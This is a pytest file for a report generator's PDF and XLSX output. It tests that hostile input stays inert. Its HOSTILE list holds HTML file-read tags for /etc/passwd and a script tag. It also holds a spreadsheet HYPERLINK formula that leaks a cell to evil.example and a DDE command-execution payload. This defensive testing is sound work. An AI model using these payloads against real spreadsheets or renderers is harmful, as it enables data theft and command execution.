"""PDF and XLSX reports: content, attachments, safety with hostile input, atomic writes, real readers."""

from __future__ import annotations

import hashlib
import io
import json
import logging
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook
from pypdf import PdfReader

from assessor.core.canonical import pretty_json
from assessor.dcrs.models import Standard
from assessor.intake.fingerprint import submission_sha256
from assessor.intake.loader import load_submission
from assessor.intake.models import Submission
from assessor.reports.context import ReportContext, build_context
from assessor.reports.labels import label
from assessor.reports.pdf import BundledAssetFetcher, pdf_bytes, prepare_pdf, write_pdf
from assessor.reports.xlsx import workbook_bytes
from assessor.scoring.engine import score
from tests.conftest import EXAMPLES, ROOT, load_yaml
from tests.report_helpers import pdf_text, soffice

pytestmark = pytest.mark.pdf  # renders, signs or verifies PDF reports

HOSTILE = [
    '<img src="file:///etc/passwd">',
    '<link rel=attachment href="file:///etc/passwd">',
    "<script>document.write('pwned')</script>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


@pytest.fixture(scope="module")
def contexts() -> dict[str, ReportContext]:
    """A report context per example."""
    from assessor.dcrs.loader import load_standard

    standard = load_standard(version="1.0.0")
    out = {}
    for path in EXAMPLES:
        submission = load_submission(path, standard)
        out[path.stem] = build_context(standard, submission, score(standard, submission))
    return out


@pytest.fixture(scope="module")
def pdfs(contexts: dict[str, ReportContext]) -> Iterator[dict[str, tuple[bytes, list[logging.LogRecord]]]]:
    """Each example rendered once, with the WeasyPrint log records it produced."""
    records: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = records.append  # type: ignore[method-assign]
    logger = logging.getLogger("weasyprint")
    logger.addHandler(handler)
    try:
        out = {}
        for name, ctx in contexts.items():
            start = len(records)
            out[name] = (pdf_bytes(prepare_pdf(ctx)), records[start:])
        yield out
    finally:
        logger.removeHandler(handler)


def test_pdf_holds_organisation_ids_and_level(
    pdfs: dict[str, tuple[bytes, list[logging.LogRecord]]], contexts: dict[str, ReportContext]
) -> None:
    """Each PDF has several pages, the organisation, every requirement id and the overall level."""
    assert len(pdfs) >= 3
    for name, (data, _) in pdfs.items():
        ctx = contexts[name]
        reader = PdfReader(io.BytesIO(data))
        assert len(reader.pages) >= 10
        text = pdf_text(data)
        assert ctx.assessment.subject.organisation in text
        assert [r.id for r in ctx.assessment.requirements if r.id not in text] == []
        assert f"readiness level {ctx.assessment.overall.level} ({ctx.assessment.overall.level_name})" in text
        assert reader.outline, "headings become PDF bookmarks"
        assert (
            reader.metadata is not None
            and reader.metadata.title
            and ctx.assessment.subject.organisation in reader.metadata.title
        )


def test_rendering_logs_no_warning(pdfs: dict[str, tuple[bytes, list[logging.LogRecord]]]) -> None:
    """WeasyPrint logs no warning for any example."""
    for name, (_, records) in pdfs.items():
        assert [r.getMessage() for r in records if r.levelno >= logging.WARNING] == [], name


def test_attachments_parse_back(
    pdfs: dict[str, tuple[bytes, list[logging.LogRecord]]], contexts: dict[str, ReportContext]
) -> None:
    """The PDF/A-3 file embeds the submission and the result, which parse back to the same content; the
    submission's bytes are exactly those its recorded sha256 is taken over."""
    for name, (data, _) in pdfs.items():
        attachments = PdfReader(io.BytesIO(data)).attachments
        assert sorted(attachments) == ["assessment.json", "submission.json"]
        assert json.loads(attachments["assessment.json"][0]) == json.loads(pretty_json(contexts[name].assessment))
        embedded = Submission.model_validate_json(attachments["submission.json"][0])
        assert submission_sha256(embedded) == submission_sha256(contexts[name].submission)
        recorded = contexts[name].assessment.provenance.submission_sha256
        assert hashlib.sha256(attachments["submission.json"][0]).hexdigest() == recorded
        xmp = PdfReader(io.BytesIO(data)).trailer["/Root"]["/Metadata"].get_object().get_data()
        assert re.search(rb"pdfaid:part(>|=\")3", xmp), "declares PDF/A-3"
        assert re.search(rb"pdfaid:conformance(>|=\")A", xmp), "declares conformance level A (tagged)"


def test_xlsx_sheets_rows_and_statuses(contexts: dict[str, ReportContext]) -> None:
    """The workbook has the five sheets, one row per requirement, and statuses equal to the JSON."""
    for ctx in contexts.values():
        wb = load_workbook(io.BytesIO(workbook_bytes(ctx)))
        assert wb.sheetnames == ["Summary", "Requirements", "Findings", "Evidence", "Crosswalk"]
        ws = wb["Requirements"]
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        assert len(rows) == len(ctx.assessment.requirements)
        by_id = {r.id: r for r in ctx.assessment.requirements}
        for row in rows:
            result = by_id[row[1]]
            assert (row[7], row[8]) == (label(result.claimed, "No response"), label(result.supported))
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref
        assert wb["Summary"]._charts, "the summary has a native chart"
        assert len(list(wb["Findings"].iter_rows(min_row=2))) == len(ctx.assessment.findings)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> ReportContext:
    """The mature example with hostile text in narratives, titles, justification and organisation."""
    from assessor.dcrs.loader import load_standard

    standard = load_standard(version="1.0.0")
    data = load_yaml((ROOT / "examples" / "mature-lab.yaml").read_text(encoding="utf-8"))
    data["organisation"]["name"] = "Evil <b>Corp</b> & Co"
    for i, text in enumerate(HOSTILE):
        data["responses"][i]["narrative"] = text
        data["evidence"][i]["title"] = text
        data["evidence"][i]["description"] = text
    path = tmp_path_factory.mktemp("hostile") / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    submission = load_submission(path, standard)
    return build_context(standard, submission, score(standard, submission))


def test_hostile_text_is_inert_in_pdf(hostile: ReportContext) -> None:
    """Hostile HTML shows as text: no local file is read, embedded or linked; nothing executes."""
    data = pdf_bytes(prepare_pdf(hostile))
    text = pdf_text(data)
    passwd = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
    assert passwd not in text and passwd.encode() not in data
    assert sorted(PdfReader(io.BytesIO(data)).attachments) == ["assessment.json", "submission.json"]
    assert "<script>" in text.replace("\n", "")  # shown escaped, as the characters the developer typed
    assert "Evil <b>Corp</b> & Co" in text


def test_hostile_text_is_never_a_formula(hostile: ReportContext) -> None:
    """Every cell holding hostile text is a string cell; the workbook has no formula at all."""
    wb = load_workbook(io.BytesIO(workbook_bytes(hostile)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    found = {c.value for c in cells if isinstance(c.value, str)}
    assert {h for h in HOSTILE} <= found


def test_fetcher_serves_only_template_assets(tmp_path: Path) -> None:
    """The fetcher serves files in the template folder and refuses other files, other schemes and escapes."""
    templates = ROOT / "templates"
    fetcher = BundledAssetFetcher([templates])
    assert b"@page" in fetcher.fetch((templates / "report.css").as_uri()).read()
    for url in ["file:///etc/passwd", (templates / ".." / "README.md").as_uri(), "http://127.0.0.1/x.css",
                "https://example.org/x.png", "data:text/plain,hi", "file://remotehost/etc/passwd"]:  # fmt: skip
        with pytest.raises(ValueError):
            fetcher.fetch(url)


def test_template_override(contexts: dict[str, ReportContext], tmp_path: Path) -> None:
    """A --templates folder overrides the stylesheet and the template; missing files fall back."""
    (tmp_path / "report.css").write_text(
        (ROOT / "templates" / "report.css").read_text(encoding="utf-8")
        + "\n.kicker::after { content: ' · BRANDED EDITION'; }\n",
        encoding="utf-8",
    )
    ctx = next(iter(contexts.values()))
    assert "BRANDED EDITION" in pdf_text(pdf_bytes(prepare_pdf(ctx, tmp_path), tmp_path))


def test_failed_render_leaves_no_file(
    contexts: dict[str, ReportContext], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A failure mid-render leaves an existing report untouched and no temporary file behind."""
    out = tmp_path / "report.pdf"
    out.write_bytes(b"previous report")

    def explode(*_: object) -> bytes:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("assessor.reports.pdf.pdf_bytes", explode)
    with pytest.raises(RuntimeError):
        write_pdf(next(iter(contexts.values())), out)
    assert out.read_bytes() == b"previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["report.pdf"]


def test_cli_writes_all_three(tmp_path: Path, standard: Standard) -> None:
    """`dcr assess --pdf --xlsx --json` writes three readable files."""
    dcr = Path(sys.executable).parent / "dcr"
    pdf, xlsx, js = tmp_path / "r.pdf", tmp_path / "r.xlsx", tmp_path / "r.json"
    cmd = [
        str(dcr),
        "assess",
        str(ROOT / "examples" / "developing-lab.yaml"),
        "--pdf",
        str(pdf),
        "--xlsx",
        str(xlsx),
        "--json",
        str(js),
    ]
    proc = subprocess.run(cmd, capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stderr
    assert pdf.read_bytes().startswith(b"%PDF-") and len(PdfReader(pdf).pages) >= 10
    assert load_workbook(xlsx).sheetnames[0] == "Summary"
    assert json.loads(js.read_text(encoding="utf-8"))["subject"]["organisation"]


@pytest.mark.slow
def test_libreoffice_reads_the_workbook(hostile: ReportContext, tmp_path: Path) -> None:
    """LibreOffice converts the (hostile) report workbook to CSV, and the formula text stays text."""
    xlsx = tmp_path / "report.xlsx"
    xlsx.write_bytes(workbook_bytes(hostile))
    env = {**os.environ, "HOME": str(tmp_path)}
    filt = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2"  # sheet 2: Requirements
    proc = subprocess.run(
        [soffice(), "--headless", "--convert-to", filt, "--outdir", str(tmp_path), str(xlsx)],
        capture_output=True, text=True, timeout=180, env=env, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    csv_files = list(tmp_path.glob("*.csv"))
    assert csv_files, proc.stdout + proc.stderr
    text = "\n".join(p.read_text(encoding="utf-8") for p in csv_files)
    assert "DCRS-AC-01" in text
    assert '=HYPERLINK(""http://evil.example' in text  # the formula text survived as text, not a value
